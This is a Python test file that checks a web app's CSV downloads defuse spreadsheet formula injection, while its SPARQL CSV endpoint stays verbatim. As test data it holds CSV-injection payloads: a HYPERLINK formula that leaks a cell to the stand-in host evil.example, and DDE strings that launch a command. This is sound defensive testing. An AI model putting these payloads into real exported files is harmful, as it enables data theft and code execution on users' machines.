"""CSV downloads meant for spreadsheets do not run formulas; /sparql keeps the W3C format.

A label `=HYPERLINK("http://evil.example/?"&A1, "Click")` served verbatim in CSV runs when the
file is opened in a spreadsheet (OWASP, "CSV Injection"). The named queries' CSV
(`/api/queries/{name}?format=csv`, a download for people) neutralises every cell that starts
like a formula with a leading `'`, numbers left as they are; SPARQL results in CSV at /sparql
are a format that clients parse (and the W3C test suites compare byte for byte): verbatim."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from fastapi.testclient import TestClient
from pyoxigraph import QueryResultsFormat, QuerySolutions, Store

from commonsgraph.config import Settings
from commonsgraph.queries import SELECT_OUTPUTS, parse_named_query
from commonsgraph.safetext import spreadsheet_cell
from commonsgraph.store import LocalStore
from commonsgraph.web import create_app

FORMULAS = {
    '=HYPERLINK("http://evil.example/?"&A1, "Click")': "'=HYPERLINK(",
    "+cmd|' /C calc'!A0": "'+cmd",
    "-2+3+cmd|' /C calc'!A0": "'-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
}
KEPT = ["-1.55", "+33", "-0.5e3", "46.17", "Le Mas", "a=b", ""]
VALUES = " ".join(
    '"'
    + v.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r")
    + '"'
    for v in [*FORMULAS, *KEPT]
)
QUERY = f"""#+ name: odd
#+ title: {{en: "Odd cells"}}
SELECT ?cell WHERE {{ VALUES ?cell {{ {VALUES} }} }}
"""


def cells(body: bytes) -> list[str]:
    rows = list(csv.reader(io.StringIO(body.decode("utf-8"), newline="")))
    assert rows[0] == ["cell"]
    return [row[0] if row else "" for row in rows[1:]]


def test_formula_cells_are_neutralised_and_numbers_kept() -> None:
    query = parse_named_query(QUERY, "odd.rq")
    store = Store()
    results = store.query(query.text)
    assert isinstance(results, QuerySolutions)
    raw = results.serialize(format=QueryResultsFormat.CSV)
    assert raw is not None
    csv_output = next(o for o in SELECT_OUTPUTS if o.name == "csv")
    shown = cells(query.shape(csv_output, raw))
    for formula, start in FORMULAS.items():
        assert any(cell.startswith(start) and cell[1:] == formula for cell in shown), formula
    for value in KEPT:
        assert value in shown
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in shown if cell not in KEPT
    )
    assert [spreadsheet_cell(v) for v in KEPT] == KEPT


def test_the_named_queries_csv_is_protected_and_sparql_csv_is_verbatim(tmp_path: Path) -> None:
    store = LocalStore()
    settings = Settings(data_dir=tmp_path, tile_url="")
    with TestClient(create_app(settings, store)) as client:
        select = QUERY.split("\n", 2)[2]
        verbatim = client.get("/sparql", params={"query": select}, headers={"Accept": "text/csv"})
        assert verbatim.status_code == 200
        assert '=HYPERLINK("http://evil.example/?"&A1, "Click")' in cells(verbatim.content)
        named = client.get("/api/queries/places-per-region", params={"format": "csv"})
        assert named.status_code == 200, named.text
        assert named.headers["content-type"].startswith("text/csv")
        assert not any(cell.startswith(("=", "+", "@")) for cell in cells_of(named.content))
    store.close()


def cells_of(body: bytes) -> list[str]:
    return [
        cell for row in csv.reader(io.StringIO(body.decode("utf-8"), newline="")) for cell in row
    ]
